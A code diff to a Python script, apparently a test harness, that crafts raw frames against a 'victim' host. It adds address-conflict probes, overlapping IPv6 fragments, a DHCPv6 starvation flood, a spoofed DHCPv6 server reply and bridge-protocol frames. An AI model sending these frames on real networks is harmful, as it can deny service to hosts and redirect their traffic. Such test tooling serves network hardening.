@@ -36,6 +36,9 @@ ALL = b"\xff" * 6
 OTHER = mac("06:4e:77:00:00:01")
 NODES = v6("ff02::1")
 NODES_MAC = mac("33:33:00:00:00:01")
+SERVERS = v6("ff02::1:2")
+SERVERS_MAC = mac("33:33:00:01:00:02")
+NOBODY4, NOBODY6 = b"\0" * 4, b"\0" * 16
 
 ARP, IP4, IP6 = 0x0806, 0x0800, 0x86DD
 ICMP, IGMP, TCP, UDP, ICMP6 = 1, 2, 6, 17, 58
@@ -140,6 +143,21 @@ def dhcp_from(kind, chaddr, **more):
     return eth(ALL, IP4, ip4(nobody, everybody, UDP, body))
 
 
+def option6(kind, body):
+    return struct.pack("!HH", kind, len(body)) + body
+
+
+def solicit(identifier):
+    """A DHCPv6 client wants an address."""
+    message = b"\x01\0\0\x01" + option6(1, identifier) + option6(3, b"\0" * 12)
+    return eth(SERVERS_MAC, IP6, ip6(LOCAL6, SERVERS, UDP, udp(LOCAL6, SERVERS, 546, 547, message)))
+
+
+def piece6(offset, more, number, body):
+    """A part of a datagram for the victim."""
+    return to_victim6(bytes([UDP, 0]) + struct.pack("!HI", offset | more, number) + body, FRAGMENT)
+
+
 def lladdr(kind, address):
     return bytes([kind, 1]) + address
 
@@ -182,6 +200,12 @@ attacks = {
         eth(VICTIM, ARP, arp(2, ME, MY4, VICTIM, VICTIM4, hardware=6)),
         eth(VICTIM, ARP, arp(8, ME, MY4, VICTIM, VICTIM4)),
     ],
+    # Who tries an address and hears another's probe for it gives it up.
+    "probes": [
+        eth(VICTIM, ARP, arp(1, ME, NOBODY4, b"\0" * 6, VICTIM4)),
+    ]
+    + [eth(ALL, ARP, arp(1, ME, NOBODY4, b"\0" * 6, VICTIM4))] * 8
+    + [eth(SOLICITED_MAC, IP6, nd(NOBODY6, SOLICITED, 135, b"\0" * 4 + VICTIM6))] * 8,
     "ipv4": [
         to_victim4(plain(GATEWAY4, VICTIM4), source=GATEWAY4),
         to_victim4(plain(VICTIM4, VICTIM4), source=VICTIM4),
@@ -227,6 +251,16 @@ attacks = {
         to_victim6(HIDDEN, FRAGMENT),
         eth(ALL, IP6, ip6(MY6, VICTIM6, UDP, plain(MY6, VICTIM6))),
     ],
+    "ipv6 fragments": [
+        piece6(0, 1, 21, plain(MY6, VICTIM6)[:8] + b"\0" * 72),
+        piece6(40, 1, 21, b"\0" * 80),
+        piece6(80, 0, 22, b"\0" * 80),
+        # Behind a hole that its receiver waits for.
+        piece6(0, 1, 23, plain(MY6, VICTIM6)[:8] + b"\0" * 72),
+        piece6(160, 0, 23, b"\0" * 8),
+        piece6(80, 1, 23, b"\0" * 96),
+    ],
+    "dhcpv6 starvation": [solicit(b"\0\x04" + bytes([number]) * 16) for number in range(24)],
     "neighbour discovery": [
         eth(NODES_MAC, IP6, RA),
         eth(NODES_MAC, IP6, ip6(LOCAL6, NODES, OPTIONS, BEHIND, 255)),
@@ -237,7 +271,8 @@ attacks = {
         eth(SOLICITED_MAC, IP6, nd(MY6, SOLICITED, 135, b"\0" * 4 + VICTIM6 + lladdr(1, ME), 64)),
         eth(VICTIM, IP6, nd(LOCAL6, VICTIM6, 137, b"\0" * 4 + MY6 + GATEWAY6)),
         eth(NODES_MAC, IP6, ip6(LOCAL6, NODES, HOPS, ALERT + icmp6(LOCAL6, NODES, 130, b"\0" * 20), 1)),
-        to_victim6(udp(LOCAL6, VICTIM6, 547, 546, b"\x07\0\0\x01"), source=LOCAL6),
+        # A reply of a server that names itself.
+        to_victim6(udp(LOCAL6, VICTIM6, 547, 546, b"\x07\0\0\x01" + option6(2, b"\0\x03\0\x01" + ME)), source=LOCAL6),
     ],
     "groups": [
         eth(
@@ -263,6 +298,8 @@ attacks = {
     "bridges": [
         eth(mac("01:80:c2:00:00:00"), 38, b"\x42\x42\x03" + b"\0" * 35),
         eth(mac("01:80:c2:00:00:0e"), 0x88CC, b"\x02\x07\x04" + ME),
+        eth(mac("01:80:c2:00:00:08"), 38, b"\x42\x42\x03" + b"\0" * 35),
+        eth(mac("01:00:0c:cc:cc:cd"), 50, b"\xaa\xaa\x03\0\0\x0c\x01\x0b" + b"\0" * 42),
         eth(mac("01:00:0c:cc:cc:cc"), 40, b"\xaa\xaa\x03\0\0\x0c\x20\0"),
         eth(VICTIM, 0x888E, b"\x01\x01\0\0"),
     ],
@@ -339,7 +376,7 @@ link = Packet(where) if how == "packet" else Stream(where)
 # Who we are.
 link.send([eth(ALL, ARP, arp(1, ME, MY4, b"\0" * 6, MY4))])
 for name, frames in attacks.items():
-    if name == "dhcp starvation":
+    if name.endswith("starvation"):
         for frame in frames:
             link.send([frame])
             time.sleep(0.21)
